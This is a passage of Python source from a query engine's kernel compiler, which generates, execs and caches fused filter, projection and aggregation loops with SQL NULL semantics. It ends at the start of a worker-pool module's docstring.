            slot = len(self.opaque_spec)
            self._opaque_slots[walk_pos] = slot
            self.opaque_spec.append(walk_pos)
            self.prelude.append(f"_o{slot} = _opq[{slot}]")
            var = f"_lo{slot}"
            self.loads.append(f"{var} = _o{slot}[_i]")
            self.guard_vars.append(var)
        return f"_lo{slot}"

    def group_flag(self, group: str) -> str:
        name = self._groups_bound.get(group)
        if name is None:
            name = f"_g{len(self._groups_bound)}"
            self._groups_bound[group] = name
            self.prelude.append(f"{name} = ({group!r} in _ctx.groups)")
        return name

    def guard_condition(self) -> str | None:
        """``x is not None and ...`` over every loaded leaf, or None."""
        if not self.guard_vars:
            return None
        return " and ".join(f"{v} is not None" for v in self.guard_vars)


class _CodeGen:
    """Lowers one expression list into the body of a kernel function.

    Two passes share one :class:`_SharedState`: the *checked* pass emits
    full NULL propagation; the *fast* pass (``assume_nonnull=True``) treats
    every guarded leaf as non-NULL, eliding the per-node None conditionals
    that dominate interpreter and checked-kernel cost alike. Intrinsic NULL
    sources (division by zero, NULL-safe builtins, else-less CASE) keep
    their checks in both passes.
    """

    def __init__(self, shared: _SharedState, assume_nonnull: bool = False):
        self._shared = shared
        self._assume_nonnull = assume_nonnull
        self.body: list[str] = []
        self._cse: dict[Any, tuple[str, bool]] = {}

    # -- small helpers ------------------------------------------------------

    def _var(self) -> str:
        self._shared.counter += 1
        return f"_v{self._shared.counter}"

    def _assign(self, expr_code: str, maybe_null: bool) -> tuple[str, bool]:
        var = self._var()
        self.body.append(f"{var} = {expr_code}")
        return var, maybe_null

    @staticmethod
    def _null_check(*operands: tuple[str, bool]) -> str | None:
        checks = [f"{tok} is None" for tok, maybe in operands if maybe]
        return " or ".join(checks) if checks else None

    def _struct_key(self, node: Expression) -> Any:
        if _is_opaque(node):
            # Opaque slots are never shared (two structurally congruent
            # trees may put *different* computations in the same slot).
            return ("opaque", id(node))
        return (_node_signature(node),) + tuple(
            self._struct_key(c) for c in node.children
        )

    def _leaf(self, var: str) -> tuple[str, bool]:
        """A loaded leaf value: non-NULL by assumption on the fast path."""
        return var, not self._assume_nonnull

    # -- node lowering ------------------------------------------------------

    def emit(self, node: Expression) -> tuple[str, bool]:
        """Lower one node; returns ``(token, maybe_null)`` where the token is
        valid inside the per-row loop body."""
        key = self._struct_key(node)
        cached = self._cse.get(key)
        if cached is not None:
            return cached
        result = self._emit_uncached(node)
        self._cse[key] = result
        return result

    def _emit_uncached(self, node: Expression) -> tuple[str, bool]:
        if _is_opaque(node):
            return self._leaf(self._shared.opaque_value(node))

        if isinstance(node, Literal):
            return f"({node.value!r})", node.value is None
        if isinstance(node, BoundRef):
            return self._leaf(self._shared.column_value(node.index))
        if isinstance(node, Alias):
            return self.emit(node.children[0])
        if isinstance(node, CurrentUser):
            if not self._shared.user_bound:
                self._shared.user_bound = True
                self._shared.prelude.append("_user = _ctx.user")
            return "_user", True
        if isinstance(node, IsAccountGroupMember):
            return self._shared.group_flag(node.group), False
        if isinstance(node, Cast):
            child = self.emit(node.children[0])
            env = self._shared.env(node, "cast")
            return self._assign(f"{env}({child[0]})", True)
        if isinstance(node, Not):
            tok, maybe = self.emit(node.children[0])
            if maybe:
                return self._assign(f"(None if {tok} is None else (not {tok}))", True)
            return self._assign(f"(not {tok})", False)
        if isinstance(node, IsNull):
            tok, maybe = self.emit(node.children[0])
            if not maybe:
                # Known non-NULL input (e.g. the fast path): constant answer.
                return f"({node.negated!r})", False
            op = "is not" if node.negated else "is"
            return self._assign(f"({tok} {op} None)", False)
        if isinstance(node, Arithmetic):
            return self._emit_arith(node)
        if isinstance(node, Comparison):
            a = self.emit(node.children[0])
            b = self.emit(node.children[1])
            core = f"({a[0]} {_CMP_TOKENS[node.op]} {b[0]})"
            check = self._null_check(a, b)
            if check:
                return self._assign(f"(None if {check} else {core})", True)
            return self._assign(core, False)
        if isinstance(node, BooleanOp):
            return self._emit_boolean(node)
        if isinstance(node, InList):
            tok, maybe = self.emit(node.children[0])
            env = self._shared.env(node, "inlist")
            op = "not in" if node.negated else "in"
            core = f"({tok} {op} {env})"
            if maybe:
                return self._assign(f"(None if {tok} is None else {core})", True)
            return self._assign(core, False)
        if isinstance(node, Like):
            tok, maybe = self.emit(node.children[0])
            env = self._shared.env(node, "like")
            hit = f"bool({env}.match(str({tok})))"
            core = f"(not {hit})" if node.negated else hit
            if maybe:
                return self._assign(f"(None if {tok} is None else {core})", True)
            return self._assign(core, False)
        if isinstance(node, CaseWhen):
            branches = [
                (self.emit(cond)[0], self.emit(value)[0])
                for cond, value in node.branches()
            ]
            otherwise = node.otherwise()
            tail = self.emit(otherwise)[0] if otherwise is not None else "None"
            for cond_tok, val_tok in reversed(branches):
                tail = f"({val_tok} if {cond_tok} else {tail})"
            return self._assign(tail, True)
        if isinstance(node, FunctionCall):
            args = [self.emit(c)[0] for c in node.children]
            env = self._shared.env(node, "func")
            return self._assign(f"{env}({', '.join(args)})", True)
        raise TypeError(f"unhandled node type {type(node).__name__}")  # pragma: no cover

    def _emit_arith(self, node: Arithmetic) -> tuple[str, bool]:
        a = self.emit(node.children[0])
        b = self.emit(node.children[1])
        checks = [f"{tok} is None" for tok, maybe in (a, b) if maybe]
        rhs = node.children[1]
        if node.op in ("/", "%") and not (
            isinstance(rhs, Literal) and rhs.value not in (None, 0)
        ):
            # SQL: x / 0 and x % 0 are NULL. The None checks run first in
            # the or-chain, so a NULL divisor never reaches the == 0 test.
            checks.append(f"{b[0]} == 0")
        core = f"({a[0]} {node.op} {b[0]})"
        if checks:
            return self._assign(f"(None if {' or '.join(checks)} else {core})", True)
        return self._assign(core, False)

    def _emit_boolean(self, node: BooleanOp) -> tuple[str, bool]:
        a = self.emit(node.children[0])
        b = self.emit(node.children[1])
        check = self._null_check(a, b)
        if check is None:
            # Non-NULL operands: plain two-valued logic.
            op = "and" if node.op == "AND" else "or"
            return self._assign(f"(bool({a[0]}) {op} bool({b[0]}))", False)
        if node.op == "AND":
            both = f"(bool({a[0]}) and bool({b[0]}))"
            code = (
                f"(False if ({a[0]} is False or {b[0]} is False) "
                f"else (None if {check} else {both}))"
            )
        else:
            both = f"(bool({a[0]}) or bool({b[0]}))"
            code = (
                f"(True if ({a[0]} is True or {b[0]} is True) "
                f"else (None if {check} else {both}))"
            )
        return self._assign(code, True)


def _assemble(
    fingerprint: str,
    prelude: list[str],
    loop_setup: list[str],
    loop_body: list[str],
    returns: list[str],
    params: str = "_cols, _n, _ctx, _env, _opq",
    epilogue: Sequence[str] = (),
) -> tuple[str, Callable]:
    """Render, ``compile()`` and ``exec`` the kernel source."""
    lines = [f"def _kernel({params}):"]
    lines += [f"    {line}" for line in prelude]
    lines += [f"    {line}" for line in loop_setup]
    lines.append("    for _i in range(_n):")
    lines += [f"        {line}" for line in loop_body]
    lines += [f"    {line}" for line in epilogue]
    lines.append(f"    return [{', '.join(returns)}]")
    source = "\n".join(lines)
    _maybe_dump_source(fingerprint, source)
    namespace: dict[str, Any] = {}
    code = compile(source, f"<kernel:{fingerprint[:12]}>", "exec")
    exec(code, namespace)  # noqa: S102 - source is generated above, not user input
    return source, namespace["_kernel"]


def _dual_body(
    shared: _SharedState, make_body: Callable[[_CodeGen], list[str]]
) -> list[str]:
    """Assemble the per-row loop body with NULL specialization.

    The checked pass is generated first (loading every leaf into shared
    per-row locals); if any loaded leaf can be NULL, a second *fast* body is
    generated under ``assume_nonnull`` and the loop dispatches per row::

        <leaf loads>
        if <every leaf> is not None:   # fast body, no NULL conditionals
        else:                          # checked body, full 3VL
    """
    checked = _CodeGen(shared)
    checked_body = make_body(checked)
    guard = shared.guard_condition()
    if guard is None:
        return shared.loads + checked_body
    fast = _CodeGen(shared, assume_nonnull=True)
    fast_body = make_body(fast)
    return (
        shared.loads
        + [f"if {guard}:"]
        + [f"    {line}" for line in fast_body]
        + ["else:"]
        + [f"    {line}" for line in checked_body]
    )


def _generate_projection(
    exprs: Sequence[Expression], fingerprint: str
) -> CompiledArtifact:
    """Lower a projection list: all outputs computed in one fused loop."""
    walk = _canonical_walk(exprs)
    shared = _SharedState({id(node): i for i, node in enumerate(walk)})

    def make_body(gen: _CodeGen) -> list[str]:
        tokens = [gen.emit(expr)[0] for expr in exprs]
        return gen.body + [f"_out{j}[_i] = {tok}" for j, tok in enumerate(tokens)]

    body = _dual_body(shared, make_body)
    setup = [f"_out{j} = [None] * _n" for j in range(len(exprs))]
    source, fn = _assemble(
        fingerprint, shared.prelude, setup, body,
        [f"_out{j}" for j in range(len(exprs))],
    )
    return CompiledArtifact(
        fingerprint=fingerprint,
        source=source,
        fn=fn,
        env_spec=tuple(shared.env_spec),
        opaque_spec=tuple(shared.opaque_spec),
        num_outputs=len(exprs),
    )


def _generate_filter_projection(
    condition: Expression, exprs: Sequence[Expression], fingerprint: str
) -> CompiledArtifact:
    """Lower filter→project into one loop with append-based outputs, so the
    intermediate filtered batch is never materialized."""
    all_exprs = [condition, *exprs]
    walk = _canonical_walk(all_exprs)
    shared = _SharedState({id(node): i for i, node in enumerate(walk)})

    def make_body(gen: _CodeGen) -> list[str]:
        cond_tok = gen.emit(condition)[0]
        # SQL filter semantics: NULL and False both drop the row (truthiness).
        gen.body.append(f"if not {cond_tok}:")
        gen.body.append("    continue")
        tokens = [gen.emit(expr)[0] for expr in exprs]
        return gen.body + [f"_a{j}({tok})" for j, tok in enumerate(tokens)]

    body = _dual_body(shared, make_body)
    setup: list[str] = []
    for j in range(len(exprs)):
        setup.append(f"_out{j} = []")
        setup.append(f"_a{j} = _out{j}.append")
    source, fn = _assemble(
        fingerprint, shared.prelude, setup, body,
        [f"_out{j}" for j in range(len(exprs))],
    )
    return CompiledArtifact(
        fingerprint=fingerprint,
        source=source,
        fn=fn,
        env_spec=tuple(shared.env_spec),
        opaque_spec=tuple(shared.opaque_spec),
        num_outputs=len(exprs),
    )


# ---------------------------------------------------------------------------
# Whole-pipeline codegen (scan/local → filter → project → partial aggregate)
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class PipelineSpec:
    """Structural description of one fusable operator chain.

    The planner composes a chain's filter conditions and projection lists
    down to the chain's *input* schema (see the physical planner's chain
    detection), so every expression here is bound against the batches the
    source operator produces. ``agg_specs`` carries ``(func_name,
    has_child)`` per distinct aggregate call; ``agg_inputs`` the composed
    input expression per call (``Literal(True)`` for ``COUNT(*)``).
    """

    condition: Expression | None
    groupings: tuple[Expression, ...]
    agg_specs: tuple[tuple[str, bool], ...]
    agg_inputs: tuple[Expression, ...]

    def all_exprs(self) -> tuple[Expression, ...]:
        """Every expression the generated loop inlines, in canonical order."""
        head = (self.condition,) if self.condition is not None else ()
        return head + self.groupings + self.agg_inputs

    def mode_string(self) -> str:
        """The fingerprint mode: pins aggregate structure alongside shapes."""
        aggs = ",".join(
            f"{name}{'' if has_child else '*'}"
            for name, has_child in self.agg_specs
        )
        cond = "c" if self.condition is not None else "-"
        return f"pipeline|{cond}|{len(self.groupings)}|{aggs}"

    def fold(self) -> "PipelineSpec":
        """Constant-fold every inlined expression (see :func:`_fold`)."""
        return replace(
            self,
            condition=_fold(self.condition) if self.condition is not None else None,
            groupings=tuple(_fold(g) for g in self.groupings),
            agg_inputs=tuple(_fold(e) for e in self.agg_inputs),
        )


def _guarded(value_tok: str, guarded: bool, body: list[str]) -> list[str]:
    """Wrap an aggregate update in the NULL-skip guard when needed."""
    if not guarded:
        return body
    return [f"if {value_tok} is not None:"] + [f"    {line}" for line in body]


def _upd_count(j: int, v: str, guarded: bool) -> list[str]:
    return _guarded(v, guarded, [f"_st[{j}] = _st[{j}] + 1"])


def _upd_sum(j: int, v: str, guarded: bool) -> list[str]:
    return _guarded(v, guarded, [
        f"_s{j} = _st[{j}]",
        f"_st[{j}] = {v} if _s{j} is None else _s{j} + {v}",
    ])


def _upd_min(j: int, v: str, guarded: bool) -> list[str]:
    # min(s, v) keeps s on ties; mirror that exactly.
    return _guarded(v, guarded, [
        f"_s{j} = _st[{j}]",
        f"_st[{j}] = {v} if _s{j} is None else ({v} if {v} < _s{j} else _s{j})",
    ])


def _upd_max(j: int, v: str, guarded: bool) -> list[str]:
    return _guarded(v, guarded, [
        f"_s{j} = _st[{j}]",
        f"_st[{j}] = {v} if _s{j} is None else ({v} if {v} > _s{j} else _s{j})",
    ])


def _upd_avg(j: int, v: str, guarded: bool) -> list[str]:
    return _guarded(v, guarded, [
        f"_s{j} = _st[{j}]",
        f"_st[{j}] = (_s{j}[0] + {v}, _s{j}[1] + 1)",
    ])


def _upd_count_distinct(j: int, v: str, guarded: bool) -> list[str]:
    # Mutable set instead of the algebra's frozenset-per-row: ``merge`` and
    # ``final`` (union / len) accept either, and states only leave through
    # pickle or finalization, so results are identical.
    return _guarded(v, guarded, [f"_st[{j}].add({v})"])


#: Aggregates the pipeline generator can inline: ``(state init source,
#: update-code emitter)``. Init/update mirror ``AGGREGATE_FUNCTIONS``
#: exactly; an aggregate outside this table refuses the whole pipeline.
_AGG_INLINE: dict[str, tuple[str, Callable[[int, str, bool], list[str]]]] = {
    "count": ("0", _upd_count),
    "sum": ("None", _upd_sum),
    "min": ("None", _upd_min),
    "max": ("None", _upd_max),
    "avg": ("(0.0, 0)", _upd_avg),
    "count_distinct": ("set()", _upd_count_distinct),
}


def _generate_aggregation_pipeline(
    spec: PipelineSpec, fingerprint: str
) -> CompiledArtifact:
    """Lower a filter→project→aggregate chain into one generated loop.

    The loop filters, computes grouping keys and aggregate inputs, and folds
    each row into per-group accumulator slots *in place* — no intermediate
    batch, no per-call closure dispatch. A last-key memo (``_lk``/``_ls``,
    persisted across batches through ``_cell``) turns runs of identical keys
    into local-variable updates without a dict probe.
    """
    all_exprs = spec.all_exprs()
    walk = _canonical_walk(all_exprs)
    shared = _SharedState({id(node): i for i, node in enumerate(walk)})
    inits = ", ".join(_AGG_INLINE[name][0] for name, _ in spec.agg_specs)

    def make_body(gen: _CodeGen) -> list[str]:
        if spec.condition is not None:
            cond_tok = gen.emit(spec.condition)[0]
            gen.body.append(f"if not {cond_tok}:")
            gen.body.append("    continue")
        key_toks = [gen.emit(g)[0] for g in spec.groupings]
        values = [gen.emit(e) for e in spec.agg_inputs]
        tail = [
            "_key = (" + ", ".join(key_toks)
            + ("," if len(key_toks) == 1 else "") + ")",
            "if _ls is not None and _key == _lk:",
            "    _st = _ls",
            "else:",
            "    _st = _get(_key)",
            "    if _st is None:",
            f"        _st = [{inits}]",
            "        _groups[_key] = _st",
            "    _lk = _key",
            "    _ls = _st",
        ]
        for j, ((name, has_child), (v_tok, maybe)) in enumerate(
            zip(spec.agg_specs, values)
        ):
            # All inlined aggregates ignore NULL inputs; COUNT(*)-style calls
            # feed a constant and never skip, matching the interpreter.
            tail += _AGG_INLINE[name][1](j, v_tok, maybe and has_child)
        return gen.body + tail

    body = _dual_body(shared, make_body)
    setup = ["_get = _groups.get", "_lk = _cell[0]", "_ls = _cell[1]"]
    epilogue = ["_cell[0] = _lk", "_cell[1] = _ls"]
    source, fn = _assemble(
        fingerprint, shared.prelude, setup, body, [],
        params="_cols, _n, _ctx, _env, _opq, _groups, _cell",
        epilogue=epilogue,
    )
    return CompiledArtifact(
        fingerprint=fingerprint,
        source=source,
        fn=fn,
        env_spec=tuple(shared.env_spec),
        opaque_spec=tuple(shared.opaque_spec),
        num_outputs=0,
    )


def interpret_pipeline(
    spec: PipelineSpec,
    batch: ColumnBatch,
    ctx: EvalContext,
    groups: dict[tuple, list[Any]],
) -> None:
    """Interpreter twin of a fused pipeline's accumulate step.

    Byte-identical semantics to both the generated loop and the unfused
    operator chain; used as the in-worker fallback when a shipped pipeline
    fails to recompile.
    """
    if batch.num_rows == 0:
        return
    if spec.condition is not None:
        batch = batch.filter(spec.condition.eval(batch, ctx))
        if batch.num_rows == 0:
            return
    key_cols = [g.eval(batch, ctx) for g in spec.groupings]
    value_cols = [e.eval(batch, ctx) for e in spec.agg_inputs]
    funcs = [AGGREGATE_FUNCTIONS[name] for name, _ in spec.agg_specs]
    for i in range(batch.num_rows):
        key = tuple(col[i] for col in key_cols)
        states = groups.get(key)
        if states is None:
            states = [func.create() for func in funcs]
            groups[key] = states
        for j, (func, (_, has_child)) in enumerate(zip(funcs, spec.agg_specs)):
            value = value_cols[j][i]
            if value is None and func.ignores_nulls and has_child:
                continue
            states[j] = func.update(states[j], value)


def pipeline_partial_columns(
    spec: PipelineSpec, groups: dict[tuple, list[Any]]
) -> list[list[Any]]:
    """Render accumulated groups as partial-aggregate exchange columns.

    Layout matches ``partial_agg_schema``: grouping keys first, then one
    pickled state blob per aggregate call — the format workers return and
    the driver's final-merge already understands.
    """
    keys = list(groups)
    columns: list[list[Any]] = [
        [key[i] for key in keys] for i in range(len(spec.groupings))
    ]
    for j in range(len(spec.agg_specs)):
        columns.append([
            pickle.dumps(groups[key][j], protocol=pickle.HIGHEST_PROTOCOL)
            for key in keys
        ])
    return columns


# ---------------------------------------------------------------------------
# Bound kernels
# ---------------------------------------------------------------------------


class CompiledKernels:
    """A cached artifact bound to one concrete expression list.

    Binding rebuilds the env constants (IN-list sets, LIKE regexes, cast and
    builtin callables) and collects the opaque nodes from *this* tree, so a
    single artifact serves every structurally congruent expression list.
    """

    __slots__ = ("artifact", "_env", "_opaque")

    def __init__(self, artifact: CompiledArtifact, exprs: Sequence[Expression]):
        walk = _canonical_walk(exprs)
        self.artifact = artifact
        self._env = {
            name: _ENV_BUILDERS[kind](walk[index])
            for name, index, kind in artifact.env_spec
        }
        self._opaque = [walk[index] for index in artifact.opaque_spec]

    @property
    def fingerprint(self) -> str:
        return self.artifact.fingerprint

    def eval_all(self, batch: ColumnBatch, ctx: EvalContext) -> list[list[Any]]:
        """Evaluate every output column for one batch.

        Opaque nodes run first through the interpreter (picking up fused-UDF
        results from ``ctx.udf_results`` exactly as interpreted evaluation
        would); the generated function then computes all outputs in one pass.
        """
        opaque_columns = [node.eval(batch, ctx) for node in self._opaque]
        return self.artifact.fn(
            batch.columns, batch.num_rows, ctx, self._env, opaque_columns
        )


class CompiledPipeline:
    """A cached pipeline artifact bound to one concrete chain.

    Like :class:`CompiledKernels`, binding rebuilds env constants against
    this chain's trees so congruent chains share one artifact. Pipelines
    refuse opaque nodes at compile time (UDFs break chains instead), so no
    opaque pre-evaluation happens here.
    """

    __slots__ = ("artifact", "spec", "_env")

    def __init__(self, artifact: CompiledArtifact, spec: PipelineSpec):
        walk = _canonical_walk(spec.all_exprs())
        self.artifact = artifact
        self.spec = spec
        self._env = {
            name: _ENV_BUILDERS[kind](walk[index])
            for name, index, kind in artifact.env_spec
        }

    @property
    def fingerprint(self) -> str:
        return self.artifact.fingerprint

    def accumulate(
        self,
        batch: ColumnBatch,
        ctx: EvalContext,
        groups: dict[tuple, list[Any]],
        cell: list[Any],
    ) -> None:
        """Fold one batch into ``groups`` (state layout matches the
        aggregate algebra, so partial emit / merge machinery applies).

        ``cell`` is the two-slot last-key memo carried across batches;
        start each accumulation scope with ``[None, None]``.
        """
        self.artifact.fn(
            batch.columns, batch.num_rows, ctx, self._env, (), groups, cell
        )


# ---------------------------------------------------------------------------
# Cache
# ---------------------------------------------------------------------------


def artifact_payload(artifact: CompiledArtifact) -> dict[str, Any]:
    """A JSON-safe source record for one artifact, for the artifact store.

    Only the generated *source* and the rebinding recipe travel — the
    compiled function is re-``exec``ed on rehydration, so a payload written
    by one process (or one cluster) is usable by any other.
    """
    return {
        "fingerprint": artifact.fingerprint,
        "source": artifact.source,
        "env_spec": [list(t) for t in artifact.env_spec],
        "opaque_spec": list(artifact.opaque_spec),
        "num_outputs": artifact.num_outputs,
    }


def rehydrate_artifact(payload: dict[str, Any]) -> CompiledArtifact | None:
    """Re-``exec`` a persisted source record back into a live artifact.

    Returns None on any malformed record — persistence is an optimization,
    the caller just recompiles from the expression tree.
    """
    try:
        fingerprint = str(payload["fingerprint"])
        source = payload["source"]
        if not isinstance(source, str) or "def _kernel(" not in source:
            return None
        namespace: dict[str, Any] = {}
        code = compile(source, f"<kernel:{fingerprint[:12]}>", "exec")
        exec(code, namespace)  # noqa: S102 - source we generated and framed
        fn = namespace["_kernel"]
        env_spec = tuple(
            (str(name), int(pos), str(kind))
            for name, pos, kind in payload["env_spec"]
        )
        opaque_spec = tuple(int(p) for p in payload["opaque_spec"])
        num_outputs = int(payload["num_outputs"])
    except Exception:  # noqa: BLE001 - any bad record is just a miss
        return None
    return CompiledArtifact(
        fingerprint=fingerprint,
        source=source,
        fn=fn,
        env_spec=env_spec,
        opaque_spec=opaque_spec,
        num_outputs=num_outputs,
    )


@dataclass
class KernelCacheStats:
    """Counters surfaced through ``system.access.cache_stats``."""

    hits: int = 0
    misses: int = 0
    insertions: int = 0
    evictions: int = 0
    compile_errors: int = 0
    #: Total generated-source lines across every inserted artifact.
    source_lines: int = 0
    #: Planner fusion attempts that produced a fused pipeline / fell back.
    fusion_hits: int = 0
    fusion_misses: int = 0
    #: Misses served by rehydrating persisted source from the artifact store.
    persistent_hits: int = 0
    #: Persisted records that failed to rehydrate (recompiled instead).
    rehydrate_errors: int = 0


class KernelCache:
    """Bounded, thread-safe LRU of compiled artifacts keyed by fingerprint.

    Content-addressed: the fingerprint fully determines the generated code,
    so entries can never go stale — governance changes invalidate the *plan*
    (and the kernels riding it) through the secure-plan cache's policy
    epoch, not this cache.
    """

    def __init__(
        self,
        capacity: int = DEFAULT_KERNEL_CACHE_CAPACITY,
        telemetry: Telemetry | None = None,
        persistent: "Any | None" = None,
    ):
        self.capacity = max(1, capacity)
        self._telemetry = telemetry
        #: Optional :class:`repro.store.ArtifactStore` read/write-through:
        #: kernels are content-addressed, so persisted source survives
        #: restarts and can be shared across clusters on one KV.
        self._persistent = persistent
        self._entries: OrderedDict[str, CompiledArtifact] = OrderedDict()
        self._lock = threading.Lock()
        self.stats = KernelCacheStats()

    def __len__(self) -> int:
        return len(self._entries)

    def _count(self, name: str) -> None:
        if self._telemetry is not None:
            self._telemetry.counter(name).inc()

    def get(self, fingerprint: str) -> CompiledArtifact | None:
        """LRU lookup, falling through to the persistent store on a miss."""
        with self._lock:
            artifact = self._entries.get(fingerprint)
            if artifact is not None:
                self._entries.move_to_end(fingerprint)
                self.stats.hits += 1
                self._count("kernel_cache.hits")
                return artifact
        artifact = self._rehydrate(fingerprint)
        if artifact is not None:
            with self._lock:
                self._adopt(fingerprint, artifact)
                self.stats.hits += 1
                self.stats.persistent_hits += 1
            self._count("kernel_cache.persistent_hits")
            return artifact
        with self._lock:
            self.stats.misses += 1
        self._count("kernel_cache.misses")
        return None

    def _rehydrate(self, fingerprint: str) -> CompiledArtifact | None:
        """Probe the artifact store and re-exec the source (outside the lock)."""
        if self._persistent is None:
            return None
        payload = self._persistent.get_kernel_payload(fingerprint)
        if payload is None:
            return None
        artifact = rehydrate_artifact(payload)
        if artifact is None or artifact.fingerprint != fingerprint:
            with self._lock:
                self.stats.rehydrate_errors += 1
            self._count("kernel_cache.rehydrate_errors")
            return None
        return artifact

    def _adopt(self, fingerprint: str, artifact: CompiledArtifact) -> None:
        """Insert under the held lock, without re-persisting."""
        self._entries[fingerprint] = artifact
        self._entries.move_to_end(fingerprint)
        self.stats.insertions += 1
        self.stats.source_lines += artifact.source.count("\n") + 1
        while len(self._entries) > self.capacity:
            self._entries.popitem(last=False)
            self.stats.evictions += 1
            self._count("kernel_cache.evictions")

    def put(self, fingerprint: str, artifact: CompiledArtifact) -> None:
        """Insert one artifact, evicting least-recently-used past capacity."""
        with self._lock:
            self._adopt(fingerprint, artifact)
        if self._persistent is not None:
            self._persistent.put_kernel_payload(
                fingerprint, artifact_payload(artifact)
            )

    def note_error(self) -> None:
        """Record one failed compilation (the caller fell back)."""
        with self._lock:
            self.stats.compile_errors += 1
        self._count("kernel_cache.compile_errors")

    def note_fusion(self, hit: bool) -> None:
        """Record one planner fusion attempt: fused (hit) or fell back."""
        with self._lock:
            if hit:
                self.stats.fusion_hits += 1
            else:
                self.stats.fusion_misses += 1
        self._count("kernel_cache.fusion_hits" if hit else "kernel_cache.fusion_misses")

    def clear(self) -> None:
        with self._lock:
            self._entries.clear()

    def stats_snapshot(self) -> dict[str, Any]:
        """Counters + size for ``system.access.cache_stats``."""
        with self._lock:
            return {
                "hits": self.stats.hits,
                "misses": self.stats.misses,
                "insertions": self.stats.insertions,
                "evictions": self.stats.evictions,
                "compile_errors": self.stats.compile_errors,
                "source_lines": self.stats.source_lines,
                "fusion_hits": self.stats.fusion_hits,
                "fusion_misses": self.stats.fusion_misses,
                "persistent_hits": self.stats.persistent_hits,
                "rehydrate_errors": self.stats.rehydrate_errors,
                "size": len(self._entries),
                "capacity": self.capacity,
            }


# ---------------------------------------------------------------------------
# Compiler
# ---------------------------------------------------------------------------


class KernelCompiler:
    """Front door: fold → fingerprint → cache lookup → generate → bind.

    Every public method returns ``None`` instead of raising when the input
    is not worth compiling or lowering fails, so callers can use the result
    as an optional fast path with the interpreter as the always-available
    fallback.
    """

    def __init__(self, cache: KernelCache | None = None):
        # Explicit None check: an empty KernelCache is falsy (__len__ == 0),
        # and a shared-but-empty cluster cache must still be adopted.
        self.cache = cache if cache is not None else KernelCache()

    # -- public API ---------------------------------------------------------

    def compile_projection(
        self, exprs: Sequence[Expression]
    ) -> CompiledKernels | None:
        """Compile a projection list into one multi-output kernel."""
        try:
            folded = tuple(_fold(e) for e in exprs)
            if not self._worth_compiling(folded):
                return None
            fingerprint = expression_fingerprint(folded, mode="project")
            artifact = self._lookup_or_generate(
                fingerprint, lambda: _generate_projection(folded, fingerprint),
                outputs=len(folded),
            )
            return CompiledKernels(artifact, folded)
        except Exception:  # noqa: BLE001 - fall back to the interpreter
            self.cache.note_error()
            return None

    def compile_predicate(self, condition: Expression) -> CompiledKernels | None:
        """Compile one predicate; ``eval_all`` returns ``[mask]``."""
        return self.compile_projection((condition,))

    def compile_filter_projection(
        self, condition: Expression, exprs: Sequence[Expression]
    ) -> CompiledKernels | None:
        """Compile fused filter→project (no intermediate batch).

        Refuses (returns ``None``) when any node is opaque: a pre-evaluated
        UDF would otherwise see pre-filter rows, changing how often user
        code runs relative to the unfused plan.
        """
        try:
            folded_cond = _fold(condition)
            folded = tuple(_fold(e) for e in exprs)
            for expr in (folded_cond, *folded):
                if any(_is_opaque(node) for node in _canonical_walk((expr,))):
                    return None
            fingerprint = expression_fingerprint(
                (folded_cond, *folded), mode="filter-project"
            )
            artifact = self._lookup_or_generate(
                fingerprint,
                lambda: _generate_filter_projection(folded_cond, folded, fingerprint),
                outputs=len(folded),
            )
            return CompiledKernels(artifact, (folded_cond, *folded))
        except Exception:  # noqa: BLE001 - fall back to the interpreter
            self.cache.note_error()
            return None

    def compile_pipeline(
        self,
        condition: Expression | None,
        groupings: Sequence[Expression],
        agg_calls: Sequence[Any],
        agg_inputs: Sequence[Expression],
    ) -> CompiledPipeline | None:
        """Compile a filter→project→aggregate chain into one loop.

        ``agg_calls`` are :class:`~repro.engine.aggregates.AggregateCall`
        nodes (for function names and COUNT(*) detection); ``agg_inputs``
        the per-call input expressions composed down to the chain's input
        schema. Refuses unknown aggregates and any opaque node — user code
        must break the chain, never ride inside it.
        """
        spec = PipelineSpec(
            condition=condition,
            groupings=tuple(groupings),
            agg_specs=tuple(
                (call.func_name, call.child is not None) for call in agg_calls
            ),
            agg_inputs=tuple(agg_inputs),
        )
        return self.compile_pipeline_spec(spec)

    def compile_pipeline_spec(
        self, spec: PipelineSpec
    ) -> CompiledPipeline | None:
        """Compile (or rebind from cache) one :class:`PipelineSpec`.

        This is the entry worker processes use to rehydrate a shipped
        pipeline from its cloudpickled spec.
        """
        try:
            if any(name not in _AGG_INLINE for name, _ in spec.agg_specs):
                return None
            if len(spec.agg_specs) != len(spec.agg_inputs):
                return None
            folded = spec.fold()
            for node in _canonical_walk(folded.all_exprs()):
                if _is_opaque(node):
                    return None
            fingerprint = expression_fingerprint(
                folded.all_exprs(), mode=folded.mode_string()
            )
            artifact = self._lookup_or_generate(
                fingerprint,
                lambda: _generate_aggregation_pipeline(folded, fingerprint),
                outputs=len(folded.agg_specs),
            )
            return CompiledPipeline(artifact, folded)
        except Exception:  # noqa: BLE001 - fall back to the interpreter
            self.cache.note_error()
            return None

    def note_fusion(self, hit: bool) -> None:
        """Planner hook: count one fusion attempt on the shared cache."""
        self.cache.note_fusion(hit)

    # -- internals ----------------------------------------------------------

    def _lookup_or_generate(
        self, fingerprint: str, build: Callable[[], CompiledArtifact], outputs: int
    ) -> CompiledArtifact:
        artifact = self.cache.get(fingerprint)
        if artifact is not None:
            return artifact
        with span_or_null(
            current_context(),
            "kernel-compile",
            "engine.compile",
            fingerprint=fingerprint[:12],
            outputs=outputs,
        ):
            artifact = build()
        self.cache.put(fingerprint, artifact)
        return artifact

    @staticmethod
    def _worth_compiling(exprs: Sequence[Expression]) -> bool:
        """At least one inlinable computation beyond bare refs/constants."""
        for node in _canonical_walk(exprs):
            if _is_opaque(node):
                continue
            if not isinstance(node, _TRIVIAL):
                return True
        return False
