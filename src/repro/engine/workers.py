"""Process worker pool: the engine's scale-out execution backend.

Thread-backend execution (PRs 1–5) interleaves every scan task and kernel
evaluation on one interpreter, so compiled kernels and parallel scans
saturate at roughly one core. This module adds the alternative the ROADMAP
names: a warm pool of **worker processes** that receive query tasks over a
control pipe and exchange batch data through
``multiprocessing.shared_memory`` segments encoded with
:mod:`repro.common.shmbuf` — control messages stay tiny, row data never
passes through pickle on the way to a worker.

What crosses the process boundary, and how:

- **batch data** — typed columnar buffers in a shared-memory segment
  (data plane; zero pickled row bytes for homogeneous columns);
- **task descriptors** — small dicts on the pipe (control plane): schema,
  identity, trace id, which kernel to run;
- **compiled kernels** — rehydrated in-worker from their structural
  fingerprint: the driver ships the (cloudpickled) folded expression list
